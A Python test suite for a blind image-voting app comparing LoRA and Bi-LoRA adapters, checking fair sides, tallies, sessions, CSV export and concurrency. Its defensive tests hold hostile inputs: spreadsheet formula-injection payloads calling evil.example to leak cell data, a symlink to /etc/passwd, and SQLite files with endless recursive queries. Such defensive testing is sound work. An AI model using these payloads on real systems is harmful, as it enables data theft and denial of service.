"""Blind votes: sides by chance, nothing lost, and a count that is the same from both sides."""

import base64
import contextlib
import csv
import io
import math
import multiprocessing
import random
import sqlite3
import threading
from collections import Counter
from dataclasses import replace
from itertools import pairwise
from typing import Any

import pytest
from PIL import Image, ImageColor

from app import parts, vote, votes
from app.catalog import Catalog
from app.votes import (
    ANY_PAIR,
    FILE,
    ImagePair,
    Side,
    Vote,
    VoterState,
    VoteStore,
    image_pairs,
    tallies,
)
from bilora_diffusion.core.errors import UserError
from eval.results.compare import win_rate_interval
from tests.app.folders import make_scores

COLORS = {"LoRA": "teal", "Bi-LoRA": "orange"}


def make_store(root, prompts=5):
    """The votes of a root with one score folder of a general prompt and others, two seeds each."""
    texts = [f"icon {number}" for number in range(prompts)]
    texts.append("a photo")
    make_scores(root / "scores", tuple(COLORS), texts, seeds=(0, 1))
    return VoteStore(Catalog(root), random.Random(0))


def voter(number, session, left="LoRA", prompt="icon"):
    """A voter of a pair of images with the seed ``number``."""
    left_side, right_side = Side(left, "aa", f"{left}.png"), Side("Bi-LoRA", "aa", "Bi-LoRA.png")
    pair = ImagePair("scores", prompt, number, left_side, right_side)
    return VoterState(session, "scores", None, num_voted=0, total=1, pair=pair)


def labels(pair):
    return pair.left.label, pair.right.label


def test_only_images_of_one_prompt_and_seed_are_paired(tmp_path):
    scores = make_scores(tmp_path, ("c", "a", "b"), ("icon 0", "icon 1", "a photo"), (0, 1))
    del scores.images["b", "icon 1", 0]
    pairs = image_pairs("scores", scores)
    assert len(pairs) == 3 * 2 * 2 - 2, "general prompts are left out, and what one alone has"
    assert {labels(pair) for pair in pairs} == {("a", "b"), ("a", "c"), ("b", "c")}
    for pair in pairs:
        for side in (pair.left, pair.right):
            assert side.file == scores.images[side.label, pair.prompt, pair.seed].file
            assert side.digest == f"digest {side.label}"
    chosen = image_pairs("scores", scores, ("c", "a"))
    assert [labels(pair) for pair in chosen] == [("a", "c")] * 4


def test_each_pair_comes_once_a_session_which_goes_on_where_it_ended(tmp_path):
    store = make_store(tmp_path)
    pairs = []
    session = store.open("scores", ANY_PAIR, "me")
    while session.pair is not None:
        assert (session.num_voted, session.total) == (len(pairs), 10)
        pairs.append(session.pair.key)
        store.cast(session, "left")
        store.cast(session, "right")  # a second click changes nothing
        restarted_store = VoteStore(Catalog(tmp_path), random.Random(len(pairs)))
        session = restarted_store.open("scores", ANY_PAIR, "me")
    assert len(set(pairs)) == len(pairs) == 10
    assert [cast_vote.pair for cast_vote in store.votes()] == pairs
    assert {cast_vote.choice for cast_vote in store.votes()} == {"left"}
    assert vote.pair_of(session) == ""
    assert "All 10 pairs" in vote.standing(session)
    other_voter = store.open("scores", ANY_PAIR, "you")
    assert (other_voter.num_voted, other_voter.total) == (0, 10)
    assert store.cast(session, "left").pair is None


def test_sides_are_drawn_by_a_fair_coin(tmp_path, monkeypatch):
    count = 300
    store = make_store(tmp_path, prompts=1)
    monkeypatch.setattr(parts, "address_below", lambda catalog, path: "data:")
    sessions = [store.open("scores", ANY_PAIR, "me") for _ in range(count)]
    assert len({session.pair.key for session in sessions}) == 2
    assert len({session.token for session in sessions}) == count
    left_labels = [session.pair.left.label for session in sessions]
    repeats = sum(label == next_label for label, next_label in pairwise(left_labels))
    # n throws of a fair coin have the standard deviation sqrt(n) / 2.
    for hits in (left_labels.count("LoRA"), repeats):
        assert abs(hits - count / 2) < 4 * math.sqrt(count) / 2


def test_each_side_shows_its_adapters_image_and_nothing_else(tmp_path):
    store = make_store(tmp_path, prompts=2)
    session = store.open("scores", ANY_PAIR, "me")
    while session.pair is not None:
        for label, address in zip(labels(session.pair), session.images, strict=True):
            content = base64.b64decode(str(address).partition(",")[2])
            with Image.open(io.BytesIO(content)) as image:
                color = ImageColor.getrgb(COLORS[label])
                for channel, value in zip(image.split(), color, strict=True):
                    assert channel.getextrema() == pytest.approx((value, value), abs=9)
                # The text "parameters" of the file has the adapter's label.
                assert set(image.info) <= {"loop", "background", "timestamp", "duration"}
                assert max(image.size) > 64, "enlarged"
        html = vote.pair_of(session) + vote.standing(session)
        for label in COLORS:
            assert label not in html
        session = store.cast(session, "left")
    (tally,), voter_count = store.result("scores", ANY_PAIR)
    wins, ties, losses = tally[2:]
    assert (wins + losses, ties, voter_count) == (4, 0, 1)


def test_a_vote_counts_the_same_from_both_sides():
    a, b = "Bi-LoRA", "LoRA"
    rows = []
    for left, right, winner in ((b, a, b), (b, a, ""), (a, b, b), (a, b, ""), (a, b, a)):
        rows.append(Vote("", "", "", 0, left, right, "", winner, "", ""))
    (tally,) = tallies(rows)
    assert tally == (a, b, 1, 2, 2)  # one won, two ties, two lost
    interval = win_rate_interval(1, 2, 2)
    rate = f"40 % ({100 * interval.low:.0f}–{100 * interval.high:.0f})"
    page = vote.table([tally], 1)
    for words in ("<b>Bi-LoRA</b> over LoRA", "1, 2, 2", rate):
        assert words in page


def test_votes_do_not_count_for_weights_that_were_trained_again(tmp_path):
    store = make_store(tmp_path, prompts=1)
    session: Any = store.open("scores", ANY_PAIR, "me")
    older = replace(session.pair, left=session.pair.left._replace(digest="older"))
    store.cast(replace(session, pair=older), "left")
    assert len(store.votes()) == 1
    assert store.result("scores", ANY_PAIR) == ([], 0)


def test_a_file_without_votes_is_refused_and_left_as_it_is(tmp_path):
    store = make_store(tmp_path, prompts=1)
    file = tmp_path / FILE
    assert store.votes() == []
    assert not file.exists(), "reading makes nothing"
    content = "not a database, but long enough to look at" * 30
    file.write_text(content)
    with pytest.raises(UserError, match=FILE):
        store.votes()
    with pytest.raises(UserError, match=FILE):
        store.open("scores", ANY_PAIR, "me")
    assert file.read_text() == content
    file.unlink()
    file.symlink_to("/etc/passwd")
    with pytest.raises(UserError, match="out of the root"):
        store.open("scores", ANY_PAIR, "me")


ENDLESS = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r"
COLUMNS = ", ".join(f'"{name}"' for name in Vote._fields)
# Files of strangers, and one that another program holds
FOREIGN = {
    "a view": f"CREATE VIEW votes AS {ENDLESS}",
    "a trigger": (
        f"CREATE TABLE votes ({COLUMNS}); CREATE TABLE more (n);"
        f"CREATE TRIGGER x AFTER INSERT ON votes BEGIN INSERT INTO more {ENDLESS} WHERE n < 0; END"
    ),
    "other columns": "CREATE TABLE votes (a, b)",
    "a lock": f"CREATE TABLE votes ({COLUMNS}); BEGIN EXCLUSIVE",
}


def read_and_vote(store):
    store.votes()
    store.cast(voter(0, "me"), "left")


@pytest.mark.parametrize("kind", FOREIGN)
def test_no_file_of_a_stranger_keeps_a_query_going(tmp_path, monkeypatch, kind):
    monkeypatch.setattr(votes, "BUSY_SECONDS", 0.2)
    monkeypatch.setattr(votes, "QUERY_SECONDS", 1.0)
    store = make_store(tmp_path, prompts=1)
    with contextlib.closing(sqlite3.connect(tmp_path / FILE, isolation_level=None)) as foreign:
        foreign.executescript(FOREIGN[kind])
        with pytest.raises(UserError, match=FILE):
            read_and_vote(store)


def test_the_csv_file_has_a_row_a_vote_and_no_formulas(tmp_path):
    store = make_store(tmp_path, prompts=1)
    prompt = 'a "ToK", icon\nof two lines'
    store.cast(voter(7, "session of one", prompt=prompt), "tie")
    expected = [["scores", prompt, "7", "LoRA", "Bi-LoRA", "tie", "", "1"]]
    # Beginnings of which a spreadsheet makes a formula; the last "=" has full width.
    for number, beginning in enumerate(("=", "+", "-", "@", "\t", "\n=", " =", "\uff1d")):
        formula = f'{beginning}HYPERLINK("http://evil.example/?"&A1,"x")'
        session = f"session of {number % 2}"
        store.cast(voter(number, session, left=formula, prompt=formula), "left")
        text, voter_number = f"'{formula}", str(2 + number % 2)
        expected.append(["scores", text, str(number), text, "Bi-LoRA", "left", text, voter_number])
    path = store.export(tmp_path / "files")
    with path.open(encoding="utf-8", newline="") as file:
        head, *rows = csv.reader(file)
    assert "session" not in path.read_text("utf-8"), "who knows a session can vote as its voter"
    columns = "time UTC,score folder,prompt,seed,adapter left,adapter right,choice,winner,voter"
    assert ",".join(head) == columns
    assert [row[1:] for row in rows] == expected


def cast_many(root, session, count):
    store = VoteStore(Catalog(root), random.Random())
    for number in range(count):
        store.cast(voter(number, session), ("left", "right", "tie")[number % 3])


@pytest.mark.slow
def test_threads_and_processes_lose_nothing(tmp_path):
    store = make_store(tmp_path, prompts=1)
    fork = multiprocessing.get_context("fork")
    workers: list[Any] = []
    for number in range(6):
        # Processes are started first: no thread holds a lock at their fork.
        make_worker = fork.Process if number < 3 else threading.Thread
        workers.append(make_worker(target=cast_many, args=(tmp_path, f"voter {number}", 9)))
        workers[-1].start()
    for worker in workers:
        worker.join(120)
    counts = Counter(cast_vote.session for cast_vote in store.votes())
    assert counts == {f"voter {number}": 9 for number in range(6)}
